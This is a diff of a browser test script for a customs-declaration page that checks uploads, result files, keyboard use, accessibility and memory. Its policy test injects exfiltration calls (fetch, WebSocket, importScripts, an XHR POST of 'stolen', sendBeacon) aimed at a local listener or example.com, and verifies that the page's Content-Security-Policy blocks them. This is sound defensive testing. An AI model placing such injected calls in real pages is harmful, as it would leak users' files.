@@ -1,19 +1,28 @@
 // What a user does on cape.html, and what the page must not do: node session.mjs BROWSER CAPE_HTML FOLDER
-// FOLDER has es003.csv, messy.csv and evil files; pictures of every screen are left in FOLDER/pictures.
+// FOLDER has es003.csv, messy.csv, broker.xlsx and filers.csv, and runs.json says what the program made of the last two.
+// Pictures of every screen are left in FOLDER/pictures.
 import assert from "node:assert/strict";
+import { createServer } from "node:http";
 import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { pathToFileURL } from "node:url";
-import { address, axe, build, choose, folder, give, input, launch, open, results } from "./driver.mjs";
+import { address, assertSame, axe, build, choose, drop, folder, give, input, launch, noWorker, open, results, settled, unpacked } from "./driver.mjs";
 
 const pictures = join(folder, "pictures");
 mkdirSync(pictures, { recursive: true });
 const at = (name) => join(folder, name);
-const shot = async (page, name, viewport) => {
-  if (viewport) await page.setViewportSize(viewport);
+/** A picture of the page from an element on, as high as there is something to see. */
+async function shot(page, name, [width, height], from) {
+  await page.setViewportSize({ width, height });
   await page.evaluate(() => { document.querySelector("nav").style.position = "static"; });
-  await page.screenshot({ path: join(pictures, `${name}.png`), fullPage: true });
-};
+  const shown = await page.locator(from).evaluate((element) => {
+    scrollTo(0, element.getBoundingClientRect().top + scrollY - 16);
+    return document.documentElement.getBoundingClientRect().bottom;
+  });
+  // A frame draws itself a little later.
+  await page.waitForTimeout(300);
+  await page.screenshot({ path: join(pictures, `${name}-${width}.png`), clip: { x: 0, y: 0, width, height: Math.min(height, shown) } });
+}
 
 async function accessible(page, name) {
   // The worker of a frame can't be looked into; report.html has tests of its own.
@@ -32,16 +41,17 @@ async function fits(page, name) {
   await page.setViewportSize({ width: 1280, height: 900 });
 }
 
-/** Every picture at both widths; accessibility in light and dark. */
-async function look(page, name) {
+/** Pictures at both widths, from an element on; accessibility in light and dark. */
+async function look(page, name, from = "h1") {
   for (const colorScheme of ["light", "dark"]) {
     await page.emulateMedia({ colorScheme });
     await accessible(page, `${name}, ${colorScheme}`);
   }
   await page.emulateMedia({ colorScheme: "light" });
   await fits(page, name);
-  await shot(page, `${name}-390`, { width: 390, height: 844 });
-  await shot(page, `${name}-1280`, { width: 1280, height: 900 });
+  await shot(page, name, [390, 1500], from);
+  await shot(page, name, [1280, 1500], from);
+  await page.setViewportSize({ width: 1280, height: 900 });
 }
 
 const show = async (page, task) => {
@@ -49,56 +59,143 @@ const show = async (page, task) => {
   await page.locator(`#${task}`).waitFor();
 };
 
-/** A worker ends with its job; the browser says so a moment later. */
-async function noWorker(page) {
-  for (let tries = 0; page.workers().length > 0; tries += 1) {
-    assert.ok(tries < 50, "a worker outlives its job");
-    await page.waitForTimeout(100);
+const runs = JSON.parse(readFileSync(join(folder, "runs.json"), "utf8"));
+
+/** A broker with a workbook of 400 entries: drops it, chooses, builds, saves each file and all of them. */
+async function broker(browser) {
+  const { page, done } = await open(browser);
+  await drop(page, "#inputs", at("broker.xlsx"));
+  await settled(page);
+  assert.match(await page.locator("#inputs article").textContent(), /^broker\.xlsx.*400 entries/);
+  assert.match(await page.locator("#status").textContent(), /Choose who files/);
+  // The only filer is chosen already.
+  assert.ok(await page.locator("[name=filer][value=B76]").isChecked());
+  await choose(page, runs.broker);
+  assert.equal(await build(page), undefined);
+  const all = await archive(page);
+  assertSame(all, runs.broker);
+  // One of each kind is saved by its own button; hundreds of clients would take minutes.
+  for (const name of [/^CAPE_B76_.*_001\.csv$/, /^clients\/[^/]+\/CAPE_.*\.csv$/, /^clients\/.*report\.html$/, /^results\.xlsx$/, /^deadlines\.ics$/]) {
+    const wanted = runs.broker.files.find((file) => name.test(file));
+    const made = await results(page, `#result-body table [data-head=Save]:has([download="${wanted}"])`);
+    assert.deepEqual(Object.keys(made), [wanted]);
+    assert.ok(all[wanted].equals(made[wanted]), wanted);
   }
+  await done();
 }
 
-/** A broker: drops, chooses, builds, saves; another run follows in the same tab. */
-async function broker(browser) {
+/** All results, as the page packs them. */
+async function archive(page) {
+  await page.getByRole("button", { name: "Prepare all results as .zip" }).click();
+  const link = page.getByRole("link", { name: /cape-out\.zip/ });
+  const [download] = await Promise.all([page.waitForEvent("download"), link.click()]);
+  assert.equal(download.suggestedFilename(), "cape-out.zip");
+  return unpacked(readFileSync(await download.path()));
+}
+
+/** An importer whose entries four brokers filed: the only importer of the file is chosen with “The importer of record”. */
+async function importer(browser) {
+  const { page, done } = await open(browser);
+  await give(page, [at("filers.csv")]);
+  assert.equal(await page.locator("[name=filer]").count(), 4);
+  assert.match(await build(page), /who files\?.*What to do/);
+  await choose(page, { day: runs.importer.day });
+  assert.ok(await page.locator(`[name=importer][value="${runs.importer.importers[0]}"]`).isChecked());
+  await look(page, "importer");
+  assert.equal(await build(page), undefined);
+  const made = await results(page);
+  assertSame(made, runs.importer);
+  const uploads = Object.keys(made).filter((name) => /^CAPE_IMPORTER_\d+\.csv$/.test(name));
+  const filers = new Set(uploads.flatMap((name) => made[name].toString().trim().split("\r\n").slice(1)).map((entry) => entry.slice(0, 3)));
+  assert.equal(filers.size, 4, "entries of every filer are in the upload files");
+  await done();
+}
+
+/** Every screen of a declaration, from the empty page to the result, and what is left out taken in by a click. */
+async function screens(browser) {
   const { page, done } = await open(browser);
   assert.match(await page.locator("header .scope").textContent(), /cape \d+\.\d+\.\d+, rules as of \d{4}-\d\d-\d\d$/);
   await look(page, "empty");
   await give(page, [at("es003.csv")]);
-  assert.match(await page.locator("#status").textContent(), /Choose who files/);
   await choose(page, { filer: "B76", day: "2026-05-01" });
   await look(page, "who");
   assert.equal(await build(page), undefined);
   assert.match(await page.locator(".verdict").textContent(), /^11 entries are ready to upload: \$94,578\.75/);
+  assert.match(await page.locator("#result-body .steps li").first().textContent(), /^Upload 11 entries \(\$94,578\.75\), the first by 2026-05-01 \(today\)/);
   const report = page.frameLocator("iframe");
   assert.equal(await report.locator("h1").textContent(), "CAPE declaration");
   // The style and the script of the report live in the frame, by the policy of the page.
   assert.equal(await report.locator("nav").evaluate((nav) => getComputedStyle(nav).position), "sticky");
   assert.ok(await report.locator("thead button").count() > 0);
+  // It can't reach the page, which has the files.
+  assert.equal(await report.locator("h1").evaluate(() => { try { return parent.document.title; } catch { return "refused"; } }), "refused");
+  await look(page, "result", "#result-title");
   await page.locator("#result-body details summary").first().click();
-  await look(page, "result");
-  const first = await results(page);
-  await page.getByRole("button", { name: "Prepare all results as .zip" }).click();
-  const archive = page.getByRole("link", { name: /cape-out\.zip/ });
-  const [download] = await Promise.all([page.waitForEvent("download"), archive.click()]);
-  assert.equal(readFileSync(await download.path()).subarray(0, 2).toString(), "PK");
-  // The same again gives the same.
-  assert.equal(await build(page), undefined);
-  const second = await results(page);
-  for (const name of Object.keys(first)) if (name !== "summary.json") assert.ok(first[name].equals(second[name]), name);
-  await noWorker(page);
+  await look(page, "findings", "#result-body details");
+  await page.getByRole("button", { name: "Choose all IEEPA headings" }).click();
+  await page.locator(".command", { hasText: "--scope all-ieepa" }).waitFor();
+  assert.match(await page.locator(".verdict").textContent(), /^12 entries are ready to upload/);
   await done();
+}
+
+/** Runs one after the other give the same, and leave no worker and no memory behind. */
+async function again(browser) {
+  const { page, done } = await open(browser);
+  const session = await page.context().newCDPSession(page);
+  const held = async () => {
+    await session.send("HeapProfiler.collectGarbage");
+    const { usedSize, embedderHeapUsedSize = 0, backingStorageSize = 0 } = await session.send("Runtime.getHeapUsage");
+    return usedSize + embedderHeapUsedSize + backingStorageSize;
+  };
+  await give(page, [at("broker.xlsx")]);
+  await choose(page, runs.broker);
+  const run = async () => {
+    assert.equal(await build(page), undefined);
+    await noWorker(page);
+  };
+  await run();
+  const first = await archive(page);
+  await run();
+  const after = await held();
+  for (let n = 0; n < 2; n += 1) await run();
+  const grown = await held() - after;
+  assert.ok(grown < 2e6, `two more runs hold ${grown} bytes more`);
+  const last = await archive(page);
+  for (const name of Object.keys(first)) if (!name.endsWith("summary.json")) assert.ok(first[name].equals(last[name]), name);
+  assertSame(last, runs.broker);
+  await done();
+}
+
+/** Presses Tab until this has the focus. */
+async function tabTo(page, selector) {
+  for (let presses = 0; presses < 80; presses += 1) {
+    await page.keyboard.press("Tab");
+    if (await page.evaluate((selector) => document.activeElement.matches(selector), selector)) return;
+  }
+  assert.fail(`Tab doesn't lead to ${selector}`);
 }
 
 /** By keyboard alone, from the first Tab to the saved file. */
 async function keyboard(browser) {
   const { page, done } = await open(browser);
-  await page.keyboard.press("Tab");
-  assert.equal(await page.evaluate(() => document.activeElement.className), "skip");
-  await give(page, [at("es003.csv")]);
-  await page.locator("[name=filer][value=B76]").focus();
+  await tabTo(page, ".skip");
+  await tabTo(page, "#inputs input[type=file]");
+  const [chooser] = await Promise.all([page.waitForEvent("filechooser"), page.keyboard.press("Enter")]);
+  await chooser.setFiles([at("es003.csv")]);
+  await settled(page);
+  await tabTo(page, "[name=filer]");
   await page.keyboard.press("Space");
+  await tabTo(page, "[name=asOf]");
+  await page.keyboard.type("05012026");
+  await tabTo(page, "#who-form [type=submit]");
+  await settled(page);
+  if (await page.evaluate(() => document.activeElement === document.body)) await tabTo(page, "#who-form [type=submit]");
   await page.keyboard.press("Enter");
   await page.locator("#result-body .verdict").waitFor();
   assert.equal(await page.evaluate(() => document.activeElement.id), "result-title");
+  await tabTo(page, "#result-body a.save.main");
+  const [download] = await Promise.all([page.waitForEvent("download"), page.keyboard.press("Enter")]);
+  assert.match(readFileSync(await download.path(), "utf8"), /^Entry Number\r\nB76\d{8}\r\n/);
   await done();
 }
 
@@ -110,6 +207,7 @@ async function others(browser) {
   await page.locator("#checked article").waitFor();
   const saves = page.locator("#checked a.save");
   assert.deepEqual(await saves.allTextContents(), ["Save messy_001.csv", "Save messy_changes.csv"]);
+  assert.ok(!(await page.locator("#checked").textContent()).includes("--fix"), "a flag of the program is no help here");
   await look(page, "check");
   await show(page, "ready");
   await page.locator("#ready-body form").waitFor();
@@ -118,8 +216,10 @@ async function others(browser) {
   await page.locator("#ready-body button.act").click();
   await page.locator("#ready-result .verdict").waitFor();
   assert.match(await page.locator("#ready-result").textContent(), /^No/);
+  assert.ok(!(await page.locator("#ready-result").textContent()).includes("--"), "a flag of the program is no help here");
   assert.ok(!(await page.locator("body").innerHTML()).includes("021000022"), "the routing number shows");
   await look(page, "ready");
+  await look(page, "ready-result", "#ready-result");
   await show(page, "rules");
   await page.locator("#rules-body input").fill("final liquidation");
   const found = page.locator("#rules-body .rule-text").filter({ visible: true });
@@ -150,7 +250,8 @@ async function garbage(browser) {
   const bytes = Buffer.from(Array.from({ length: 5000 }, (_, n) => (n * 7919) % 251));
   await give(page, [{ name: "noise.bin", mimeType: "", buffer: bytes }]);
   assert.ok(await page.locator("#inputs .file.bad").count() > 0);
-  assert.match(await page.locator("#inputs").textContent(), /What to do/);
+  assert.equal((await page.locator("#inputs").textContent()).match(/What to do/g).length, 1, "it is said once");
+  await look(page, "unreadable");
   await page.getByRole("button", { name: "Remove noise.bin" }).click();
   await give(page, [at("es003.csv")]);
   await choose(page, { day: "2026-05-01", filer: "zz!" });
@@ -161,46 +262,55 @@ async function garbage(browser) {
   await done();
 }
 
-/** A large file: read in pieces, cancelled, read again. */
-async function large(browser) {
-  const { page, done } = await open(browser);
-  await input(page, "#inputs").setInputFiles([at("large.csv")]);
-  await page.getByRole("button", { name: "Cancel" }).click();
-  await page.getByText("Cancelled.").waitFor();
-  await noWorker(page);
-  await page.getByRole("button", { name: "Remove large.csv" }).click();
-  await give(page, [at("rows.csv")]);
-  await choose(page, { filer: "B76", day: "2026-05-01" });
-  const started = Date.now();
-  assert.equal(await build(page), undefined);
-  console.log(`200,000 rows: ${Date.now() - started} ms`);
-  await done();
+/** A server that counts who calls it. */
+async function listener() {
+  const calls = [];
+  const server = createServer((request, response) => { calls.push(request.url); response.end(); });
+  server.on("upgrade", (request, socket) => { calls.push(request.url); socket.destroy(); });
+  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
+  return { calls, host: `127.0.0.1:${server.address().port}`, close: () => server.close() };
 }
 
-/** A page that was altered to call out is stopped by its policy, as far as a browser lets a page say so. */
+/** A page that was altered to call out is stopped by its policy, wherever it was altered. */
 async function policy(browser) {
   const html = readFileSync(new URL(address), "utf8");
   const declared = /Content-Security-Policy" content="([^"]*)"/.exec(html)[1];
   assert.match(declared, /^default-src 'none'; connect-src 'none'; script-src 'sha256-[^']+' 'sha256-[^']+' 'wasm-unsafe-eval';/);
   assert.ok(!/unsafe-inline|'unsafe-eval'|https?:|data:|\*/.test(declared), declared);
-  const altered = join(folder, "altered.html");
-  writeFileSync(altered, html.replace("</body>", `<script>fetch("https://example.com/?stolen")</script><img src="https://example.com/i">
-<form action="https://example.com/" id="f"></form><iframe src="https://example.com/"></iframe></body>`));
-  const context = await browser.newContext();
-  const page = await context.newPage();
-  const asked = [];
-  page.on("response", (response) => { if (response.url().includes("example.com")) asked.push(response.url()); });
-  page.on("requestfinished", (request) => { if (request.url().includes("example.com")) asked.push(request.url()); });
-  const refused = [];
-  page.on("console", (message) => refused.push(message.text()));
-  await page.goto(pathToFileURL(altered).href);
-  // What script of the page itself might try, were it altered too.
-  const tried = await page.evaluate(async () => {
+  const { calls, host, close } = await listener();
+  const altered = async (content) => {
+    const file = join(folder, "altered.html");
+    assert.notEqual(content, html);
+    writeFileSync(file, content);
+    const page = await (await browser.newContext()).newPage();
+    await page.goto(pathToFileURL(file).href);
+    return page;
+  };
+
+  // Its script: the hash is another one, so that none of it runs.
+  let page = await altered(html.replace('"use strict";', `"use strict"; fetch("http://${host}/script");`));
+  assert.ok(await page.getByText("Firefox 113").isVisible());
+  await page.context().close();
+
+  // Its worker, which has every file of the user: it runs, and can't call.
+  page = await altered(html.replace("onmessage = ({ data }) => {", `$&
+    for (const call of [() => fetch("http://${host}/worker"), () => new WebSocket("ws://${host}/socket"), () => new EventSource("http://${host}/events"),
+      () => importScripts("http://${host}/import"), () => { const sent = new XMLHttpRequest(); sent.open("POST", "http://${host}/sent", false); sent.send("stolen"); }]) {
+      try { Promise.resolve(call()).catch(() => {}); } catch {}
+    }`));
+  await give(page, [at("es003.csv")]);
+  assert.ok(await page.locator("#who-form [type=submit]").isVisible(), "the altered worker works");
+  await page.context().close();
+
+  // Its markup, and what script of the page itself might try.
+  page = await altered(html.replace("</body>", `<script>fetch("http://${host}/added")</script><img src="http://${host}/image"><link rel="stylesheet" href="http://${host}/style">
+<form action="http://${host}/form" id="f"></form><iframe src="http://${host}/frame"></iframe></body>`));
+  const tried = await page.evaluate(async (host) => {
     const violations = [];
     document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
-    const calls = [() => fetch("https://example.com/a"), () => fetch("data:text/plain,a"), () => fetch(URL.createObjectURL(new Blob(["a"]))),
-      () => new WebSocket("wss://example.com/"), () => new EventSource("https://example.com/"), () => Function("return 1")(),
-      () => { if (!navigator.sendBeacon("https://example.com/")) throw new Error("refused"); }];
+    const calls = [() => fetch(`http://${host}/a`), () => fetch("data:text/plain,a"), () => fetch(URL.createObjectURL(new Blob(["a"]))),
+      () => new WebSocket(`ws://${host}/b`), () => new EventSource(`http://${host}/c`), () => Function("return 1")(),
+      () => { if (!navigator.sendBeacon(`http://${host}/d`)) throw new Error("refused"); }];
     let refused = 0;
     for (const call of calls) {
       try { const it = await call(); if (it instanceof EventTarget) await new Promise((_, reject) => { it.onerror = reject; setTimeout(reject, 500); }); } catch { refused += 1; }
@@ -208,12 +318,16 @@ async function policy(browser) {
     document.getElementById("f").submit();
     await new Promise((resolve) => setTimeout(resolve, 300));
     return { refused, all: calls.length, violations };
-  });
+  }, host);
+  // A beacon is dropped by the policy after it was taken.
   assert.ok(tried.refused >= tried.all - 1, JSON.stringify(tried));
   for (const directive of ["connect-src", "form-action"]) assert.ok(tried.violations.includes(directive), JSON.stringify(tried.violations));
-  assert.ok(refused.some((text) => /script/i.test(text)), "the added script ran");
-  assert.deepEqual(asked, []);
-  await context.close();
+  await page.context().close();
+  assert.deepEqual(calls, []);
+  // The server does count what nothing forbids.
+  await fetch(`http://${host}/counted`);
+  assert.deepEqual(calls, ["/counted"]);
+  close();
 }
 
 /** Nothing is kept, whatever was done. */
@@ -244,7 +358,7 @@ async function sentences(browser) {
 
 const browser = await launch();
 try {
-  for (const part of [broker, keyboard, others, markup, garbage, large, policy, nothingKept, sentences]) {
+  for (const part of [screens, broker, importer, again, keyboard, others, markup, garbage, policy, nothingKept, sentences]) {
     const started = Date.now();
     await part(browser);
     console.log(`${part.name}: ${Date.now() - started} ms`);
